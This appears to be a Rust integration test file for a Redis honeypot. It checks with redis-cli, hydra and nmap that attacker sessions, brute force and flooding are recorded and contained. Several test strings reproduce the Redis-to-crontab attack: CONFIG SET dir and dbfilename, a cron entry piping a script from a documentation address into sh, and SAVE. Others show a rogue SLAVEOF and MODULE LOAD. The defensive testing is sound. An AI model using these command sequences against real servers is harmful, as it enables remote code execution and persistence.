//! Redis honeypot against the real `redis-cli`, `hydra` and `nmap -sV`: commands and
//! attacks recorded as events, SLAVEOF never connects anywhere, AUTH brute force recorded
//! pair by pair, nmap names Redis and its version, and the caps hold against raw sockets:
//! reply amplification (`MGET k k k …`), peers that never read, the output cap. The
//! node's keyspace is shared by connections, survives a restart, refuses a corrupt
//! snapshot, gives each source a share, and stays bounded under a flood of SETs.

mod datasvc;
mod memory;
mod tools;

use datasvc::*;
use honeybee_agent::services::Limits;
use honeybee_proto::config::{LoginPolicy, RedisOptions, ServiceKind};
use honeybee_proto::event::{AuthAttempt, EventKind};
use memory::rss_anon;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpSocket, TcpStream};

fn redis(require_auth: bool, login: LoginPolicy) -> ServiceKind {
    ServiceKind::Redis(RedisOptions {
        version: "7.0.15".into(),
        require_auth,
        login,
        ..RedisOptions::default()
    })
}

fn cli_args(addr: std::net::SocketAddr) -> Vec<String> {
    vec![
        "-h".into(),
        addr.ip().to_string(),
        "-p".into(),
        addr.port().to_string(),
    ]
}

async fn cli(
    dir: &std::path::Path,
    addr: std::net::SocketAddr,
    args: &[&str],
    stdin: Option<&str>,
) -> Ran {
    let mut all = cli_args(addr);
    all.extend(args.iter().map(|s| s.to_string()));
    let all: Vec<&str> = all.iter().map(String::as_str).collect();
    run(dir, "redis-cli", &all, stdin).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redis_cli_session_is_recorded_and_slaveof_never_connects() {
    tools::require(&["redis-cli"]);
    let dir = tempfile::tempdir().unwrap();
    let mut r = start(
        dir.path(),
        "redis",
        "127.0.0.1:0".parse().unwrap(),
        redis(false, LoginPolicy::Never),
    )
    .await;

    let ping = cli(dir.path(), r.addr, &["PING"], None).await;
    assert_eq!(ping.stdout.trim(), "PONG");
    let info = cli(dir.path(), r.addr, &["INFO"], None).await;
    assert!(
        info.stdout.contains("redis_version:7.0.15"),
        "{}",
        info.stdout
    );
    assert!(info.stdout.contains(&format!("tcp_port:{}", r.addr.port())));
    assert!(info.stdout.contains("# Keyspace"));

    // A rogue master the test listens on: the honeypot must never connect to it.
    let rogue = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let rogue_port = rogue.local_addr().unwrap().port();
    // One connection, as an attacker's script does it: commands from stdin.
    let script = format!(
        "CONFIG SET dir /tmp\nCONFIG GET dir\nSET x \"\\n*/1 * * * * curl -fsSL http://203.0.113.5/x.sh | sh\\n\"\nCONFIG SET dbfilename root\nSAVE\nSLAVEOF 127.0.0.1 {rogue_port}\nINFO replication\nEVAL \"return 1\" 0\nMODULE LOAD /tmp/exp.so\nSLAVEOF NO ONE\n"
    );
    let s = cli(dir.path(), r.addr, &[], Some(&script)).await;
    let out: Vec<&str> = s.stdout.lines().collect();
    // Redis 7.0 refuses the protected config, as the real one does; the attempt is
    // still followed through: SAVE captures the file it meant to write.
    assert_eq!(
        out[0],
        "ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config",
        "{}",
        s.stdout
    );
    // (redis-cli follows an error with a blank line.)
    assert_eq!(&out[1..4], ["", "dir", "/var/lib/redis"]);
    assert!(s.stdout.contains("role:slave"), "{}", s.stdout);
    assert!(
        s.stdout.contains(&format!("master_port:{rogue_port}")),
        "{}",
        s.stdout
    );
    assert!(
        s.stdout
            .contains("ERR MODULE command not allowed. If the enable-module-command option is set to \"local\""),
        "{}",
        s.stdout
    );
    assert!(
        out.contains(&"1"),
        "EVAL \"return 1\" 0 gives 1: {}",
        s.stdout
    );

    r.wait_disconnects(3).await;
    let cmds = r.commands();
    for want in [
        "PING".to_owned(),
        "INFO".to_owned(),
        "CONFIG SET dir /tmp".to_owned(),
        "CONFIG GET dir".to_owned(),
        "SET x \"\\n*/1 * * * * curl -fsSL http://203.0.113.5/x.sh | sh\\n\"".to_owned(),
        "SAVE".to_owned(),
        format!("SLAVEOF 127.0.0.1 {rogue_port}"),
        "EVAL \"return 1\" 0".to_owned(),
        "MODULE LOAD /tmp/exp.so".to_owned(),
    ] {
        assert!(cmds.contains(&want), "{want:?} not in {cmds:#?}");
    }
    let downloads: Vec<_> = r
        .events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::Download { url, tool } => Some((url.clone(), tool.clone())),
            _ => None,
        })
        .collect();
    assert_eq!(
        downloads,
        [(
            format!("redis://127.0.0.1:{rogue_port}"),
            "replicaof".to_owned()
        )]
    );
    // The would-be crontab written by SAVE is a capture of that session.
    let capture = r.events.iter().find_map(|e| match &e.kind {
        EventKind::Capture {
            kind, name, size, ..
        } => Some((kind.clone(), name.clone(), *size)),
        _ => None,
    });
    let (kind, name, size) = capture.expect("SAVE after CONFIG SET dir is captured");
    assert_eq!(
        (kind.as_str(), name.as_deref()),
        ("upload", Some("/tmp/root"))
    );
    let spooled = std::fs::read_dir(dir.path().join("captures"))
        .unwrap()
        .filter_map(|e| e.ok())
        .find(|e| e.path().extension().is_some_and(|x| x == "bin"))
        .expect("capture file spooled");
    let content = std::fs::read(spooled.path()).unwrap();
    assert_eq!(content.len() as u64, size);
    assert!(String::from_utf8_lossy(&content).contains("curl -fsSL http://203.0.113.5/x.sh | sh"));

    // Nothing ever connected to the rogue master (given time it would have, if it tried).
    let accepted = tokio::time::timeout(Duration::from_secs(3), rogue.accept()).await;
    assert!(
        accepted.is_err(),
        "the honeypot connected out: {accepted:?}"
    );
    r.mgr.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requirepass_and_auth_like_redis() {
    tools::require(&["redis-cli"]);
    let dir = tempfile::tempdir().unwrap();
    let policy = LoginPolicy::Credentials(vec![("default".into(), "s3cret".into())]);
    let mut r = start(
        dir.path(),
        "redis",
        "127.0.0.1:0".parse().unwrap(),
        redis(true, policy),
    )
    .await;
    let denied = cli(dir.path(), r.addr, &["CONFIG", "GET", "dir"], None).await;
    assert!(
        denied.stdout.contains("NOAUTH Authentication required."),
        "{}",
        denied.stdout
    );
    let wrong = cli(
        dir.path(),
        r.addr,
        &["--no-auth-warning", "-a", "guess", "PING"],
        None,
    )
    .await;
    assert!(
        format!("{}{}", wrong.stdout, wrong.stderr)
            .contains("WRONGPASS invalid username-password pair or user is disabled."),
        "{} {}",
        wrong.stdout,
        wrong.stderr
    );
    let right = cli(
        dir.path(),
        r.addr,
        &["--no-auth-warning", "-a", "s3cret", "PING"],
        None,
    )
    .await;
    assert_eq!(right.stdout.trim(), "PONG");
    r.wait_disconnects(3).await;
    let attempts: Vec<(String, Option<String>, bool)> = r
        .events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::AuthAttempt(AuthAttempt {
                username,
                password,
                success,
                ..
            }) => Some((username.clone(), password.clone(), *success)),
            _ => None,
        })
        .collect();
    assert_eq!(
        attempts,
        [
            ("default".into(), Some("guess".into()), false),
            ("default".into(), Some("s3cret".into()), true)
        ]
    );
    r.mgr.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hydra_redis_every_password_recorded() {
    tools::require(&["hydra", "redis-cli"]);
    let dir = tempfile::tempdir().unwrap();
    let mut r = start(
        dir.path(),
        "redis",
        "127.0.0.1:0".parse().unwrap(),
        redis(true, LoginPolicy::Never),
    )
    .await;
    // Redis has no user names: 400 passwords stand for the 20 × 20 grid.
    let passwords: Vec<String> = (0..20)
        .flat_map(|u| (0..20).map(move |p| format!("user{u}-pass{p}")))
        .collect();
    std::fs::write(dir.path().join("pw.txt"), passwords.join("\n") + "\n").unwrap();
    let h = run(
        dir.path(),
        "hydra",
        &[
            "-I",
            "-t",
            "4",
            "-P",
            "pw.txt",
            "-o",
            "found.txt",
            "-s",
            &r.addr.port().to_string(),
            "127.0.0.1",
            "redis",
        ],
        None,
    )
    .await;
    tools::assert_hydra_finished(h.ok, &h.stdout, &h.stderr);
    r.wait_for("400 auth attempts", |ev| {
        ev.iter()
            .filter(|e| e.kind.name() == "auth_attempt")
            .count()
            >= 400
    })
    .await;
    let mut got: Vec<String> = r
        .events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::AuthAttempt(a) => {
                assert_eq!((a.username.as_str(), a.success), ("default", false));
                a.password.clone()
            }
            _ => None,
        })
        .collect();
    got.sort();
    let mut want = passwords.clone();
    want.sort();
    assert_eq!(got, want, "every password exactly once");
    // Still serving.
    let ping = cli(dir.path(), r.addr, &["PING"], None).await;
    assert!(ping.stdout.contains("NOAUTH"), "{}", ping.stdout);
    r.mgr.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nmap_names_redis_and_its_version() {
    tools::require(&["nmap"]);
    let dir = tempfile::tempdir().unwrap();
    // On its own port nmap asks INFO and reads the version.
    let mut r = start(
        dir.path(),
        "redis",
        free_loopback(6379),
        redis(false, LoginPolicy::Never),
    )
    .await;
    let (product, version) = nmap_service(dir.path(), r.addr).await;
    assert_eq!(product.as_deref(), Some("Redis key-value store"));
    assert_eq!(version.as_deref(), Some("7.0.15"));
    r.mgr.shutdown().await;
    // On any other port nmap's HTTP probe gets Redis's own error, and still names it.
    let mut r = start(
        dir.path(),
        "redis",
        "127.0.0.1:0".parse().unwrap(),
        redis(false, LoginPolicy::Never),
    )
    .await;
    let (product, _) = nmap_service(dir.path(), r.addr).await;
    assert_eq!(product.as_deref(), Some("Redis key-value store"));
    r.mgr.shutdown().await;
}

async fn exchange(addr: std::net::SocketAddr, send: &[u8]) -> Vec<u8> {
    let mut c = TcpStream::connect(addr).await.unwrap();
    c.write_all(send).await.unwrap();
    let mut out = Vec::new();
    tokio::time::timeout(WAIT, c.read_to_end(&mut out))
        .await
        .expect("server closes")
        .unwrap();
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn protocol_errors_and_caps_over_raw_sockets() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = start(
        dir.path(),
        "redis",
        "127.0.0.1:0".parse().unwrap(),
        redis(false, LoginPolicy::Never),
    )
    .await;
    // Pipelined inline and multibulk requests, binary-safe, then QUIT.
    let out = exchange(
        r.addr,
        b"PING\r\n*2\r\n$4\r\nECHO\r\n$3\r\na\0b\r\nQUIT\r\n",
    )
    .await;
    assert_eq!(out, b"+PONG\r\n$3\r\na\0b\r\n+OK\r\n");
    // A bulk announced over the cap is refused before its bytes are awaited.
    let out = exchange(r.addr, b"*2\r\n$3\r\nSET\r\n$999999999\r\n").await;
    assert_eq!(out, b"-ERR Protocol error: invalid bulk length\r\n");
    // Many bulks each under the cap but together over it: dropped, and that is an event.
    let mut big = b"*4\r\n".to_vec();
    for _ in 0..4 {
        big.extend_from_slice(format!("${}\r\n", 60 * 1024).as_bytes());
        big.extend_from_slice(&vec![b'a'; 60 * 1024]);
        big.extend_from_slice(b"\r\n");
    }
    let mut c = TcpStream::connect(r.addr).await.unwrap();
    let _ = c.write_all(&big).await;
    let mut sink = Vec::new();
    let _ = tokio::time::timeout(WAIT, c.read_to_end(&mut sink)).await;
    // HTTP to Redis: dropped without an answer, as Redis does.
    let out = exchange(r.addr, b"POST / HTTP/1.1\r\nHost: x\r\n\r\n").await;
    assert!(out.is_empty());
    r.wait_disconnects(4).await;
    assert!(r.events.iter().any(
        |e| matches!(&e.kind, EventKind::LimitReached { limit, .. } if limit == "redis_request")
    ));
    let cmds = r.commands();
    assert!(cmds.contains(&"ECHO \"a\\x00b\"".to_owned()), "{cmds:?}");
    r.mgr.shutdown().await;
}

/// A multibulk request, as clients send it.
fn multibulk(args: &[&[u8]]) -> Vec<u8> {
    let mut out = format!("*{}\r\n", args.len()).into_bytes();
    for a in args {
        out.extend_from_slice(format!("${}\r\n", a.len()).as_bytes());
        out.extend_from_slice(a);
        out.extend_from_slice(b"\r\n");
    }
    out
}

/// Stored once, then asked for many times: the largest value one request may carry.
const VALUE: usize = 90 * 1024;

fn limits_hit(r: &Running, name: &str) -> usize {
    r.events
        .iter()
        .filter(|e| matches!(&e.kind, EventKind::LimitReached { limit, .. } if limit == name))
        .count()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mget_amplification_builds_no_reply_and_memory_stays_flat() {
    const ATTACKERS: usize = 16;
    let dir = tempfile::tempdir().unwrap();
    let mut r = start(
        dir.path(),
        "redis",
        "127.0.0.1:0".parse().unwrap(),
        redis(false, LoginPolicy::Never),
    )
    .await;
    let before = rss_anon();
    // One 7 KB request asks for a 90 KiB value a thousand times: about 90 MiB per reply,
    // and the attackers never read, so an unbounded server would hold every byte of it.
    let value = vec![b'v'; VALUE];
    let mut attack = multibulk(&[b"SET", b"k", &value]);
    let mut mget: Vec<&[u8]> = vec![b"MGET"];
    mget.extend(std::iter::repeat_n(&b"k"[..], 1000));
    let mget = multibulk(&mget);
    assert!(mget.len() < 8 * 1024);
    attack.extend_from_slice(&mget);
    let mut attackers = Vec::new();
    for _ in 0..ATTACKERS {
        let mut c = TcpStream::connect(r.addr).await.unwrap();
        c.write_all(&attack).await.unwrap();
        attackers.push(c);
    }
    r.wait_for("every amplified reply refused", |ev| {
        ev.iter()
            .filter(|e| matches!(&e.kind, EventKind::LimitReached { limit, .. } if limit == "redis_reply"))
            .count()
            >= ATTACKERS
    })
    .await;
    // Measured while every attacker still holds its connection, unread.
    let grown = rss_anon().saturating_sub(before);
    assert!(
        grown < 64 * 1024 * 1024,
        "private memory grew by {grown} bytes for {ATTACKERS} MGET amplifications"
    );
    // Each attacker got its SET answered, then the connection closed: no reply was built.
    for mut c in attackers {
        let mut got = Vec::new();
        tokio::time::timeout(WAIT, c.read_to_end(&mut got))
            .await
            .expect("the server closes")
            .unwrap();
        assert_eq!(got, b"+OK\r\n");
    }
    // Others are still served, and an ordinary GET of the same size is answered in full.
    let mut get = multibulk(&[b"SET", b"k", &value]);
    get.extend_from_slice(&multibulk(&[b"GET", b"k"]));
    get.extend_from_slice(b"QUIT\r\n");
    let out = exchange(r.addr, &get).await;
    let mut want = b"+OK\r\n".to_vec();
    want.extend_from_slice(format!("${VALUE}\r\n").as_bytes());
    want.extend_from_slice(&value);
    want.extend_from_slice(b"\r\n+OK\r\n");
    assert!(out == want, "GET answered {} bytes", out.len());
    r.mgr.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_peer_that_never_reads_is_dropped_at_the_write_deadline() {
    let dir = tempfile::tempdir().unwrap();
    // The write deadline is the node's idle timeout when that is shorter than 30 s.
    let limits = Limits {
        idle_timeout: Duration::from_secs(2),
        ..Limits::default()
    };
    let mut r = start_with_limits(
        dir.path(),
        "redis",
        "127.0.0.1:0".parse().unwrap(),
        redis(false, LoginPolicy::Never),
        limits,
    )
    .await;
    // A small receive window so the server's writes block early.
    let sock = TcpSocket::new_v4().unwrap();
    sock.set_recv_buffer_size(4096).unwrap();
    let mut c = sock.connect(r.addr).await.unwrap();
    let value = vec![b'v'; VALUE];
    c.write_all(&multibulk(&[b"SET", b"k", &value]))
        .await
        .unwrap();
    // Flood GETs and never read. Bounded: 500 GETs ask for about 45 MiB, under the
    // per-connection output cap, so only the deadline can end this.
    let batch = b"GET k\r\n".repeat(50);
    for _ in 0..10 {
        match tokio::time::timeout(Duration::from_secs(1), c.write_all(&batch)).await {
            Ok(Ok(())) => {}
            // The server stopped reading (blocked on its write) or dropped us.
            _ => break,
        }
    }
    r.wait_for("the write deadline", |ev| {
        ev.iter().any(|e| matches!(&e.kind, EventKind::LimitReached { limit, .. } if limit == "redis_write_deadline"))
    })
    .await;
    r.wait_disconnects(1).await;
    assert_eq!(limits_hit(&r, "redis_output"), 0);
    // The service still answers others.
    let out = exchange(r.addr, b"PING\r\nQUIT\r\n").await;
    assert_eq!(out, b"+PONG\r\n+OK\r\n");
    drop(c);
    r.mgr.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn output_per_connection_is_capped() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = start(
        dir.path(),
        "redis",
        "127.0.0.1:0".parse().unwrap(),
        redis(false, LoginPolicy::Never),
    )
    .await;
    let (mut rd, mut wr) = TcpStream::connect(r.addr).await.unwrap().into_split();
    // A reader that counts what arrives until the server closes.
    let reader = tokio::spawn(async move {
        let mut buf = vec![0u8; 256 * 1024];
        let mut total = 0u64;
        loop {
            match tokio::time::timeout(WAIT, rd.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => return total,
                Ok(Ok(n)) => total += n as u64,
                Err(_) => panic!("server neither sent nor closed"),
            }
        }
    });
    let value = vec![b'v'; VALUE];
    wr.write_all(&multibulk(&[b"SET", b"k", &value]))
        .await
        .unwrap();
    // 1000 GETs of 90 KiB ask for about 88 MiB: over the 64 MiB cap.
    let batch = b"GET k\r\n".repeat(50);
    for _ in 0..20 {
        if tokio::time::timeout(WAIT, wr.write_all(&batch))
            .await
            .map_or(true, |r| r.is_err())
        {
            break;
        }
    }
    let total = tokio::time::timeout(WAIT * 2, reader)
        .await
        .unwrap()
        .unwrap();
    assert!(
        total <= 64 * 1024 * 1024,
        "{total} bytes sent on one connection"
    );
    assert!(
        total > 32 * 1024 * 1024,
        "only {total} bytes before the cap"
    );
    r.wait_disconnects(1).await;
    assert_eq!(limits_hit(&r, "redis_output"), 1);
    r.mgr.shutdown().await;
}

/// A 100 KiB request of 1,000 arguments sent one byte per write (the shape that made a
/// parser that starts over on every read do quadratic work): it is answered, recorded
/// whole, and the connection keeps serving. Loopback TCP may merge the writes into fewer
/// reads, so the work bound itself is asserted on the parser's step counter, driven the
/// way the service drives it, one byte per read (`redis::resp` unit test
/// `a_request_sent_a_byte_at_a_time_costs_linear_work`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_sent_a_byte_at_a_time_is_answered() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = start(
        dir.path(),
        "redis",
        "127.0.0.1:0".parse().unwrap(),
        redis(false, LoginPolicy::Always),
    )
    .await;
    let keys: Vec<Vec<u8>> = (0..1000u32)
        .map(|i| format!("{i:04}{}", "k".repeat(96)).into_bytes())
        .collect();
    let mut args: Vec<&[u8]> = vec![b"DEL"];
    args.extend(keys.iter().map(|k| k.as_slice()));
    let request = multibulk(&args);
    assert!(request.len() > 100 * 1024, "{}", request.len());
    let mut c = TcpStream::connect(r.addr).await.unwrap();
    c.set_nodelay(true).unwrap();
    for b in &request {
        tokio::time::timeout(WAIT, c.write_all(std::slice::from_ref(b)))
            .await
            .unwrap()
            .unwrap();
    }
    let mut reply = [0u8; 4];
    tokio::time::timeout(WAIT, c.read_exact(&mut reply))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(&reply, b":0\r\n");
    c.write_all(b"PING\r\n").await.unwrap();
    let mut pong = [0u8; 7];
    tokio::time::timeout(WAIT, c.read_exact(&mut pong))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(&pong, b"+PONG\r\n");
    r.wait_for("both commands", |ev| {
        ev.iter()
            .filter(|e| matches!(e.kind, EventKind::Command { .. }))
            .count()
            >= 2
    })
    .await;
    let commands = r.commands();
    assert!(
        commands[0].starts_with("DEL 0000kkk"),
        "{}",
        &commands[0][..64]
    );
    assert_eq!(commands[1], "PING");
    r.mgr.shutdown().await;
}

/// The node keeps one keyspace per Redis service: what one connection writes, the next
/// reads, in every database, and it outlives the service (a new manager on the same data
/// directory), TTLs included, as a real instance's data does.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn keyspace_is_shared_by_connections_and_survives_a_restart() {
    tools::require(&["redis-cli"]);
    let dir = tempfile::tempdir().unwrap();
    let listen: std::net::SocketAddr = "127.0.0.1:0".parse().unwrap();
    let mut r = start(
        dir.path(),
        "redis",
        listen,
        redis(false, LoginPolicy::Never),
    )
    .await;
    let set = cli(
        dir.path(),
        r.addr,
        &[],
        Some("SET backup1 \"*/2 * * * * root cd1 -fsSL http://203.0.113.7/b.sh | sh\"\nSET session abc EX 3600\nSELECT 3\nSET other db3\nCONFIG SET maxmemory-policy allkeys-lru\nRPUSH jobs a b\nHSET h f v\n"),
    )
    .await;
    assert_eq!(
        set.stdout.lines().collect::<Vec<_>>(),
        ["OK", "OK", "OK", "OK", "OK", "2", "1"],
        "{}",
        set.stdout
    );
    // Another connection (another redis-cli process) sees it.
    let get = cli(dir.path(), r.addr, &["GET", "backup1"], None).await;
    assert_eq!(
        get.stdout.trim(),
        "*/2 * * * * root cd1 -fsSL http://203.0.113.7/b.sh | sh"
    );
    let db3 = cli(dir.path(), r.addr, &["-n", "3", "GET", "other"], None).await;
    assert_eq!(db3.stdout.trim(), "db3");
    r.wait_disconnects(3).await;
    r.mgr.shutdown().await;
    drop(r);
    let snapshot = dir.path().join("redis-redis.bin");
    assert!(snapshot.exists(), "no snapshot written at shutdown");

    // A new manager on the same data directory: the same keyspace.
    let mut r = start(
        dir.path(),
        "redis",
        listen,
        redis(false, LoginPolicy::Never),
    )
    .await;
    let out = cli(
        dir.path(),
        r.addr,
        &[],
        Some("GET backup1\nTTL session\nDBSIZE\nSELECT 3\nGET other\nCONFIG GET maxmemory-policy\nLRANGE jobs 0 -1\nHGETALL h\nTYPE jobs\n"),
    )
    .await;
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(lines.len(), 12, "{}", out.stdout);
    assert_eq!(
        lines[0],
        "*/2 * * * * root cd1 -fsSL http://203.0.113.7/b.sh | sh"
    );
    // The expiry was stored as an absolute time: still counting down, not reset.
    let ttl: i64 = lines[1].parse().unwrap();
    assert!((1..=3600).contains(&ttl), "TTL {ttl}");
    // Lists and hashes persist too (snapshot v2).
    assert_eq!(
        &lines[2..],
        [
            "2",
            "OK",
            "db3",
            "maxmemory-policy",
            "allkeys-lru",
            "a",
            "b",
            "f",
            "v",
            "list"
        ]
    );
    r.wait_disconnects(1).await;
    r.mgr.shutdown().await;
}

/// A snapshot that fails its checks (here one flipped byte, then plain garbage) is set
/// aside as `.corrupt` with a warning in the log, and the service starts empty and serves.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_corrupt_snapshot_is_set_aside_and_the_keyspace_starts_empty() {
    let dir = tempfile::tempdir().unwrap();
    let listen: std::net::SocketAddr = "127.0.0.1:0".parse().unwrap();
    let snapshot = dir.path().join("redis-redis.bin");
    let aside = dir.path().join("redis-redis.bin.corrupt");
    let mut r = start(
        dir.path(),
        "redis",
        listen,
        redis(false, LoginPolicy::Never),
    )
    .await;
    assert_eq!(
        exchange(r.addr, b"SET k v\r\nQUIT\r\n").await,
        b"+OK\r\n+OK\r\n"
    );
    r.wait_disconnects(1).await;
    r.mgr.shutdown().await;
    drop(r);
    let mut bytes = std::fs::read(&snapshot).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x40;
    for bad in [bytes, b"HBREDIS1 garbage".repeat(1000)] {
        std::fs::write(&snapshot, &bad).unwrap();
        let _ = std::fs::remove_file(&aside);
        let mut r = start(
            dir.path(),
            "redis",
            listen,
            redis(false, LoginPolicy::Never),
        )
        .await;
        assert_eq!(std::fs::read(&aside).unwrap(), bad, "set aside as it was");
        assert!(!snapshot.exists());
        let out = exchange(
            r.addr,
            b"DBSIZE\r\nGET k\r\nSET fresh 1\r\nGET fresh\r\nQUIT\r\n",
        )
        .await;
        assert_eq!(out, b":0\r\n$-1\r\n+OK\r\n$1\r\n1\r\n+OK\r\n");
        r.wait_disconnects(1).await;
        r.mgr.shutdown().await;
        // What was written after the corrupt file is a valid snapshot again.
        assert!(snapshot.exists());
    }
}

/// Reads replies until `n` lines that start a reply (`+`, `-`, `:`, `$`) are in; bounded.
async fn read_lines(c: &mut TcpStream, n: usize) -> String {
    let mut got = Vec::new();
    let mut buf = vec![0u8; 64 * 1024];
    while got.iter().filter(|&&b| b == b'\n').count() < n {
        let k = tokio::time::timeout(WAIT, c.read(&mut buf))
            .await
            .expect("replies in time")
            .unwrap();
        assert!(k > 0, "closed after {:?}", String::from_utf8_lossy(&got));
        got.extend_from_slice(&buf[..k]);
    }
    String::from_utf8_lossy(&got).into_owned()
}

const OOM: &str = "-OOM command not allowed when used memory > 'maxmemory'.";

/// One source (127.0.0.1) writes until it owns its share of the node's keyspace (1 MiB);
/// then it is refused with Redis's OOM error and that is recorded, while a second source
/// (127.0.0.2) still writes, and both still read everything.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_source_owns_at_most_its_share_of_the_keyspace() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = start(
        dir.path(),
        "redis",
        "127.0.0.1:0".parse().unwrap(),
        redis(false, LoginPolicy::Never),
    )
    .await;
    let a: std::net::IpAddr = "127.0.0.1".parse().unwrap();
    let b: std::net::IpAddr = "127.0.0.2".parse().unwrap();
    // 40 values of 32 KiB: 1.25 MiB, past the 1 MiB share.
    let value = vec![b'a'; 32 * 1024];
    let mut attacker = connect_from(a, r.addr).await;
    let mut flood = Vec::new();
    for i in 0..40 {
        flood.extend_from_slice(&multibulk(&[b"SET", format!("a{i}").as_bytes(), &value]));
    }
    attacker.write_all(&flood).await.unwrap();
    let replies = read_lines(&mut attacker, 40).await;
    let ok = replies.lines().filter(|l| *l == "+OK").count();
    let refused = replies.lines().filter(|l| *l == OOM).count();
    assert_eq!(ok + refused, 40, "{replies}");
    assert!(
        (28..=32).contains(&ok),
        "{ok} values of 32 KiB stored for one source"
    );
    // Another connection from the same source is refused as well: the share is per source.
    let mut again = connect_from(a, r.addr).await;
    again
        .write_all(&multibulk(&[b"SET", b"more", &value]))
        .await
        .unwrap();
    assert_eq!(read_lines(&mut again, 1).await.trim_end(), OOM);
    // The other source writes, and reads what the first wrote.
    let mut other = connect_from(b, r.addr).await;
    let mut req = multibulk(&[b"SET", b"b0", &value]);
    req.extend_from_slice(b"GET a0\r\nDBSIZE\r\n");
    other.write_all(&req).await.unwrap();
    let got = read_lines(&mut other, 4).await;
    assert!(
        got.starts_with("+OK\r\n$32768\r\n"),
        "{}",
        &got[..got.len().min(64)]
    );
    assert!(
        got.ends_with(&format!(":{}\r\n", ok + 1)),
        "{}",
        &got[got.len() - 16..]
    );
    // Deleting its keys gives the first source its room back.
    attacker.write_all(b"DEL a0 a1\r\n").await.unwrap();
    assert_eq!(read_lines(&mut attacker, 1).await.trim_end(), ":2");
    again
        .write_all(&multibulk(&[b"SET", b"more", &value]))
        .await
        .unwrap();
    assert_eq!(read_lines(&mut again, 1).await.trim_end(), "+OK");
    drop((attacker, again, other));
    r.wait_disconnects(3).await;
    assert!(limits_hit(&r, "redis_keyspace") >= 1);
    r.mgr.shutdown().await;
}

/// 32 connections from 8 sources pipeline 64 SETs of 64 KiB each (128 MiB in all, every
/// key distinct). The node's keyspace holds at most 4 MiB: the rest is refused with OOM,
/// the test process's memory stays flat, the service keeps serving, and the snapshot on
/// disk stays bounded.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flood_of_sets_from_many_connections_keeps_the_keyspace_bounded() {
    const SOURCES: u8 = 8;
    const PER_SOURCE: usize = 4;
    const SETS: usize = 64;
    let dir = tempfile::tempdir().unwrap();
    let mut r = start(
        dir.path(),
        "redis",
        "127.0.0.1:0".parse().unwrap(),
        redis(false, LoginPolicy::Never),
    )
    .await;
    let before = rss_anon();
    let value = vec![b'f'; 64 * 1024];
    let mut tasks = Vec::new();
    for s in 0..SOURCES {
        for c in 0..PER_SOURCE {
            let value = value.clone();
            let addr = r.addr;
            tasks.push(tokio::spawn(async move {
                let ip = std::net::IpAddr::from([127, 0, 1, 1 + s]);
                let mut conn = connect_from(ip, addr).await;
                let (mut rd, mut wr) = conn.split();
                let writer = async {
                    for i in 0..SETS {
                        let key = format!("{s}-{c}-{i}");
                        wr.write_all(&multibulk(&[b"SET", key.as_bytes(), &value]))
                            .await
                            .unwrap();
                    }
                    wr.write_all(b"QUIT\r\n").await.unwrap();
                };
                let reader = async {
                    let mut got = Vec::new();
                    tokio::time::timeout(WAIT * 2, rd.read_to_end(&mut got))
                        .await
                        .expect("replies in time")
                        .unwrap();
                    String::from_utf8(got).unwrap()
                };
                let ((), got) = tokio::join!(writer, reader);
                let ok = got.lines().filter(|l| *l == "+OK").count();
                let refused = got.lines().filter(|l| *l == OOM).count();
                assert_eq!(ok + refused, SETS + 1, "{got}");
                ok - 1
            }));
        }
    }
    let mut stored = 0;
    for t in tasks {
        stored += t.await.unwrap();
    }
    let grown = rss_anon().saturating_sub(before);
    // 4 MiB of values at most (64 of 64 KiB), whoever wrote them.
    assert!(stored <= 64, "{stored} values of 64 KiB stored");
    assert!(stored >= 32, "only {stored} stored: each source has 1 MiB");
    assert!(
        grown < 40 * 1024 * 1024,
        "private memory grew by {grown} bytes for 128 MiB of SETs"
    );
    r.wait_disconnects(SOURCES as usize * PER_SOURCE).await;
    let out = exchange(r.addr, b"DBSIZE\r\nQUIT\r\n").await;
    assert_eq!(out, format!(":{stored}\r\n+OK\r\n").as_bytes());
    assert!(limits_hit(&r, "redis_keyspace") >= 1);
    r.mgr.shutdown().await;
    let size = std::fs::metadata(dir.path().join("redis-redis.bin"))
        .unwrap()
        .len();
    assert!(
        size <= 4 * 1024 * 1024 + 64 * 1024,
        "snapshot of {size} bytes"
    );
}

/// The real `redis-server` from Debian, on a loopback port of its own, stopped by its
/// PID when dropped. Its absence fails the test: the suite installs it.
struct RealRedis {
    child: tokio::process::Child,
    addr: std::net::SocketAddr,
    _dir: tempfile::TempDir,
}

impl RealRedis {
    async fn start() -> RealRedis {
        const BIN: &str = "/usr/bin/redis-server";
        assert!(
            std::path::Path::new(BIN).exists(),
            "{BIN} is missing: install Debian's redis-server (apt-get install -y redis-server); \
             the differential Redis tests compare against it and do not skip"
        );
        let dir = tempfile::tempdir().unwrap();
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
